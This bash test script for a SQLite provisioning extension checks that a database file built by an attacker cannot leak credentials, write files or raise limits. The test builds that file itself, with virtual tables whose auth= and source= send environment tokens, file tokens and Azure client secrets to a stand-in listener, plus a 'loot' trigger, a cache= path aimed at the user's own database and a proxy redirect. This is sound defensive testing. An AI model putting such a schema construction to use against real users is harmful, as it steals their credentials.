#!/usr/bin/env bash
# trust_hostile_db.sh: a database file written by someone else, opened by a
# user with tokens and client credentials in the environment, makes the
# extension send nothing, write no file and raise no limit, unless the
# user's environment allows it (issue 13).
#
# The attacker's file (built here) holds, all on loopback (a tiny Graph, the
# listener S of tests/sh/trust_listener.py, on a free port):
#   t_env    auth='env:TRUST_CANARY'        t_file  auth='file:<token file>'
#   t_azure  auth='azure' (the victim's AZURE_* and PROVISIONING_AUTHORITY_HOST
#            pointing at S)
#   t_flows  provisioning_flows, auth='env:TRUST_CANARY'
#   t_cdb    cache='<the user's existing database>'   t_cnew  cache='<a new path>'
#   t_lim    max_response, max_wait, max_retries, rate_limit, rate_window,
#            connect_timeout, low_speed_time all past the defaults, on a route
#            that answers 429 with Retry-After: 1000
#   views over them, and a trigger on an ordinary table that reads t_env with
#   the user's row in the condition.
# The victim's environment also sets http_proxy/https_proxy/ALL_PROXY to a
# second listener P.
# Run 1 (sqlite3 shell and Debian's python3, PROVISIONING_ALLOWED_HOSTS unset):
#   (and a third run, shell, without proxy variables, so each attack shows on
#   its own) every use fails naming the host and PROVISIONING_ALLOWED_HOSTS; S and P
#   receive nothing; no file changes or appears (sha256 of every file).
# Run 2 (the same file, PROVISIONING_ALLOWED_HOSTS=127.0.0.1): rows come back
#   (so run 1 shows the rule, not a broken extension); P still receives nothing
#   (loopback bypasses the proxy: a token never goes to a proxy in clear);
#   the user's database and the new path are untouched (the schema's cache=
#   falls back to memory); the raised limits are capped (max_wait: the
#   Retry-After of 1000 s is refused at once, the trace names every cap).
# Env from tests/run.sh: ROOT, MODE, EXT, SQLITE3, RUN_ENV, BUILD.
. "$(dirname "$0")/lib.sh"
W=$WORK
mkdir -p "$W/home"

start_listener() { # mode name
  python3 tests/sh/trust_listener.py "$1" "$W/$2.port" "$W/$2.log" 300 &
  at_exit "kill $! 2>/dev/null"
  for _ in $(seq 1 100); do [ -s "$W/$2.port" ] && break; sleep 0.05; done
  [ -s "$W/$2.port" ] || { echo "listener $2 did not start"; exit 1; }
}
: >"$W/S.log"; : >"$W/P.log"
ISSUED="issued-$$-$RANDOM-access"
ISSUED_TOKEN=$ISSUED start_listener graph S
start_listener catch P
S="http://127.0.0.1:$(cat "$W/S.port")"
P="http://127.0.0.1:$(cat "$W/P.port")"

CANARY="trust-canary-env-$$-$RANDOM-9d1c"
FILETOK="trust-canary-file-$$-$RANDOM-44ab"
SECRET="trust-canary-secret-$$-$RANDOM-e7"
printf '%s\n' "$FILETOK" >"$W/token.txt"

# ---- the attacker's file (the attacker's environment allowed loopback)
DB="$W/gift.db"
env -u http_proxy -u https_proxy -u ALL_PROXY PROVISIONING_ALLOWED_HOSTS=127.0.0.1 PROVISIONING_SOURCE= \
  $SQLITE3 -batch -init /dev/null "$DB" >"$W/build.out" 2>&1 <<SQL
.load $EXT
CREATE VIRTUAL TABLE t_env USING provisioning_events(source='$S/v1.0', auth='env:TRUST_CANARY');
CREATE VIRTUAL TABLE t_file USING provisioning_events(source='$S/v1.0', auth='file:$W/token.txt');
CREATE VIRTUAL TABLE t_azure USING provisioning_events(source='$S/v1.0', auth='azure');
CREATE VIRTUAL TABLE t_flows USING provisioning_flows(source='$S/beta', auth='env:TRUST_CANARY');
CREATE VIRTUAL TABLE t_cdb USING provisioning_events(source='$S/v1.0', auth='env:TRUST_CANARY', cache='$W/user.db');
CREATE VIRTUAL TABLE t_cnew USING provisioning_events(source='$S/v1.0', auth='env:TRUST_CANARY', cache='$W/new-cache.db');
CREATE VIRTUAL TABLE t_lim USING provisioning_events(source='$S/retry/v1.0', auth='env:TRUST_CANARY',
  max_response=1000000000000, max_wait=86400, max_retries=20, rate_limit=1000000, rate_window=0,
  connect_timeout=3600, low_speed_time=3600);
CREATE VIEW v_env AS SELECT id, job_id FROM t_env;
CREATE VIEW v_all AS SELECT id FROM t_file UNION ALL SELECT id FROM t_azure;
CREATE TABLE inbox(job TEXT);
CREATE TABLE loot(id TEXT);
CREATE TRIGGER tr AFTER INSERT ON inbox BEGIN INSERT INTO loot SELECT id FROM t_env WHERE job_id = new.job; END;
SQL
n=$(sqlite3 "$DB" "SELECT count(*) FROM sqlite_schema")
[ "$n" -ge 12 ] || { echo "could not build the file ($n objects)"; cat "$W/build.out"; exit 1; }
# the user's own database (must stay byte-identical; made after the file, as
# the attacker guessed its path)
rm -f "$W/user.db"
sqlite3 "$W/user.db" "CREATE TABLE precious(x); INSERT INTO precious VALUES ('mine');"
# the file is made: nothing that follows may have come from building it
: >"$W/S.log"; : >"$W/P.log"
rm -f "$W/new-cache.db"

QUERIES=(
  "SELECT 't_env', id FROM t_env"
  "SELECT 't_file', id FROM t_file"
  "SELECT 't_azure', id FROM t_azure"
  "SELECT 't_flows', id FROM t_flows"
  "SELECT 't_cdb', id FROM t_cdb"
  "SELECT 't_cdb2', id FROM t_cdb"
  "SELECT 't_cnew', id FROM t_cnew"
  "SELECT 'v_env', id FROM v_env"
  "SELECT 'v_all', id FROM v_all"
  "INSERT INTO inbox VALUES ('job-1')"
  "SELECT 'loot', count(*) FROM loot"
  "SELECT 't_lim', id FROM t_lim"
)

snapshot() { # [name to leave out]: every file under W but the listeners' logs and the outputs
  (cd "$W" && find . -type f ! -name '*.log' ! -name '*.out' ! -name '*.err' ! -name '*.pid' ! -name '*.port' \
     ! -name '*.py' ! -name '*.sha' ! -name "${1:-.}" -print0 | sort -z | xargs -0 sha256sum)
}

cat >"$W/victim.py" <<'PY'
import sqlite3, sys
ext, db = sys.argv[1], sys.argv[2]
con = sqlite3.connect(db, isolation_level=None)
con.enable_load_extension(True)
con.load_extension(ext)
for q in sys.argv[3:]:
    try:
        for row in con.execute(q).fetchall():
            print("|".join(str(v) for v in row))
    except sqlite3.Error as e:
        print("Error: " + str(e))
con.close()
PY

PROXY=1 # 0: no proxy variables (so that each attack shows on its own, not only through the proxy)
victim_env() { # allowed-hosts value, then the command
  local allow=$1; shift
  local px=("http_proxy=$P" "https_proxy=$P" "HTTPS_PROXY=$P" "ALL_PROXY=$P" "all_proxy=$P" NO_PROXY= no_proxy=)
  [ "$PROXY" = 1 ] || px=(-u http_proxy -u https_proxy -u HTTPS_PROXY -u ALL_PROXY -u all_proxy)
  env -u PROVISIONING_ALLOWED_HOSTS -u XDG_CACHE_HOME -u PROVISIONING_CACHE_DIR "${px[@]}" \
    ${allow:+PROVISIONING_ALLOWED_HOSTS=$allow} HOME="$W/home" \
    TRUST_CANARY="$CANARY" AZURE_TENANT_ID=tenant-1 AZURE_CLIENT_ID=client-1 AZURE_CLIENT_SECRET="$SECRET" \
    PROVISIONING_AUTHORITY_HOST="$S" PROVISIONING_TRACE=1 PROVISIONING_SOURCE= \
    "$@"
}
run_shell() { # allowed-hosts out
  { echo ".load $EXT"; echo ".bail off"; for q in "${QUERIES[@]}"; do echo "$q;"; done; } |
    victim_env "$1" timeout 60 $SQLITE3 -batch -init /dev/null "$DB" >"$2" 2>&1
}
PY_OK=1
[ -x $PY ] && $PY -c 'import sqlite3; sqlite3.connect(":memory:").enable_load_extension(True)' 2>/dev/null || PY_OK=0
PY_ENV=${RUN_ENV:-}
PY_ENV=${PY_ENV/detect_leaks=1/detect_leaks=0}
if [ "$MODE" = asan ] && [ $PY_OK = 1 ]; then
  env $PY_ENV $PY -c 'import sqlite3' >/dev/null 2>&1 || PY_OK=0
fi
[ -x $PY ] || { echo "no $PY"; [ "$MODE" = plain ] && exit 1; }
run_python() { # allowed-hosts out
  victim_env "$1" env $PY_ENV timeout 60 $PY "$W/victim.py" "$EXT" "$DB" "${QUERIES[@]}" >"$2" 2>&1
}
leaked() { # file: does it hold any of the secrets?
  grep -a -q -F -e "$CANARY" -e "$FILETOK" -e "$SECRET" -e "$ISSUED" "$1"
}

# ---- run 1: hosts not allowed
snapshot >"$W/before.sha"
for case in shell python shell-noproxy; do
  who=${case%-noproxy}; PROXY=1; [ $case = shell-noproxy ] && { PROXY=0; who=$case; }
  [ $who = python ] && [ $PY_OK = 0 ] && { echo "note: python run skipped (asan preload)"; continue; }
  out="$W/denied.$who.out"
  run_${who%-noproxy} "" "$out"
  sed 's/^/    /' "$out" | head -60
  n_err=$(grep -c "host '127.0.0.1' (port $(cat "$W/S.port")) of source= is not allowed.*PROVISIONING_ALLOWED_HOSTS" "$out")
  check_cmd "$who, denied: every table, view and the trigger fails naming the host and PROVISIONING_ALLOWED_HOSTS ($n_err of 11)" \
    [ "$n_err" = 11 ]
  check_cmd "$who, denied: no row came back" bash -c "! grep -E -q '^(t_|v_)[a-z0-9]*\|' '$out'"
  check_cmd "$who, denied: loot stays empty" grep -q '^loot|0$' "$out"
  check_cmd "$who, denied: the tiny Graph received nothing" bash -c "[ ! -s '$W/S.log' ]"
  check_cmd "$who, denied: the proxy received nothing" bash -c "[ ! -s '$W/P.log' ]"
  check_cmd "$who, denied: no secret in any output or trace" bash -c "! grep -a -q -F -e '$CANARY' -e '$FILETOK' -e '$SECRET' '$out'"
  snapshot >"$W/after.sha"
  check_cmd "$who, denied: no file changed or appeared" cmp -s "$W/before.sha" "$W/after.sha"
  [ -e "$W/home/.cache" ] && bad "$who, denied: a cache directory appeared"
done

# ---- run 2: the same file, loopback allowed by the environment (its trigger
# writes inbox and loot in gift.db: that file may change now)
snapshot gift.db >"$W/before.sha"
for case in shell python shell-noproxy; do
  who=${case%-noproxy}; PROXY=1; [ $case = shell-noproxy ] && { PROXY=0; who=$case; }
  [ $who = python ] && [ $PY_OK = 0 ] && continue
  : >"$W/S.log"; : >"$W/P.log"
  out="$W/allowed.$who.out"
  t0=$(date +%s)
  run_${who%-noproxy} 127.0.0.1 "$out"
  t1=$(date +%s)
  sed 's/^/    /' "$out" | grep -v '^    provisioning: ' | head -40
  for t in t_env t_file t_azure t_cdb t_cdb2 t_cnew v_env v_all; do
    check_cmd "$who, allowed: $t returns its rows" bash -c "grep -q '^$t|ev-1$' '$out' && grep -q '^$t|ev-2$' '$out'"
  done
  check_cmd "$who, allowed: t_flows returns its flow" grep -q '^t_flows|fl-1$' "$out"
  nloot=1; [ $who = python ] && nloot=2; [ $who = shell-noproxy ] && nloot=3 # one per run
  check_cmd "$who, allowed: the trigger read through t_env (a read-only table may be used so)" grep -q "^loot|$nloot\$" "$out"
  check_cmd "$who, allowed: the env: token went to the source" grep -q -F "\"authorization\": \"Bearer $CANARY\"" "$W/S.log"
  check_cmd "$who, allowed: the file: token went to the source" grep -q -F "\"authorization\": \"Bearer $FILETOK\"" "$W/S.log"
  check_cmd "$who, allowed: the client credentials were exchanged at the allowed login host" \
    grep -q -F "\"authorization\": \"Bearer $ISSUED\"" "$W/S.log"
  check_cmd "$who, allowed: the proxy received nothing (loopback bypasses it)" bash -c "[ ! -s '$W/P.log' ]"
  # limits: capped, so the server's Retry-After of 1000 s exceeds max_wait=180 and is refused at once
  check_cmd "$who, allowed: t_lim fails at once: max_wait capped at 180" \
    grep -q "the server asked to retry after 1000 s, more than the 180 s left of max_wait=180" "$out"
  check_cmd "$who, allowed: the run took less than 30 s ($((t1 - t0)) s)" [ $((t1 - t0)) -lt 30 ]
  check_cmd "$who, allowed: t_lim was requested (the route that answers 429)" grep -q '/retry/' "$W/S.log"
  for opt in max_response max_wait max_retries rate_limit rate_window connect_timeout low_speed_time; do
    check_cmd "$who, allowed: the trace names the cap of $opt" grep -q "$opt=.* from the database file's schema is past" "$out"
  done
  check_cmd "$who, allowed: t_lim sent one request (max_retries capped, no retry past max_wait)" \
    [ "$(grep -c '/retry/' "$W/S.log")" = 1 ]
  check_cmd "$who, allowed: no secret in any output or trace" bash -c "! grep -a -q -F -e '$CANARY' -e '$FILETOK' -e '$SECRET' -e '$ISSUED' '$out'"
  snapshot gift.db >"$W/after.sha"
  check_cmd "$who, allowed: the user's database and every other file unchanged, no new file" \
    cmp -s "$W/before.sha" "$W/after.sha"
  [ -e "$W/new-cache.db" ] && bad "$who, allowed: the schema's new cache path was created"
done
[ -e "$W/home/.cache" ] && bad "a cache directory appeared without cache='user'"

# ---- the user's own CREATE (xCreate) is trusted, but never writes into someone else's database
out="$W/create.out"
env -u XDG_CACHE_HOME -u PROVISIONING_CACHE_DIR -u http_proxy -u https_proxy -u ALL_PROXY \
  PROVISIONING_ALLOWED_HOSTS=127.0.0.1 PROVISIONING_SOURCE= TRUST_CANARY="$CANARY" HOME="$W/home" \
  $SQLITE3 -batch -init /dev/null :memory: >"$out" 2>&1 <<SQL
.load $EXT
.bail off
CREATE VIRTUAL TABLE c1 USING provisioning_events(source='$S/v1.0', auth='env:TRUST_CANARY', cache='$W/user.db');
CREATE VIRTUAL TABLE c2 USING provisioning_events(source='$S/v1.0', auth='env:TRUST_CANARY', cache='$W/mine.db');
SELECT 'c2', count(*) FROM c2;
CREATE VIRTUAL TABLE c3 USING provisioning_events(source='$S/v1.0', auth='env:TRUST_CANARY', cache='user');
SELECT 'c3', count(*) FROM c3;
SQL
cat "$out"
check_cmd "create: cache= at an existing database that is not a cache is refused" \
  grep -q "cache='$W/user.db' is an existing file that is not a provisioning cache database" "$out"
check_cmd "create: the user's database unchanged" bash -c "grep -F ' ./user.db' '$W/before.sha' | sed 's| \./| $W/|' | sha256sum -c --quiet -"
check_cmd "create: cache= at a new path works and makes a cache database" grep -q '^c2|2$' "$out"
check_cmd "create: the new cache file carries the application_id" \
  [ "$(sqlite3 "$W/mine.db" 'PRAGMA application_id')" = 1347573315 ]
check_cmd "create: cache='user' fills the per-user cache directory" \
  [ "$(sqlite3 "$W/home/.cache/provisioning/cache.db" 'PRAGMA application_id' 2>&1)" = 1347573315 ]
check_cmd "create: no secret in the cache files" bash -c "! leaked() { :; }; ! grep -a -q -F -e '$CANARY' '$W/mine.db' '$W/home/.cache/provisioning/cache.db'"
finish
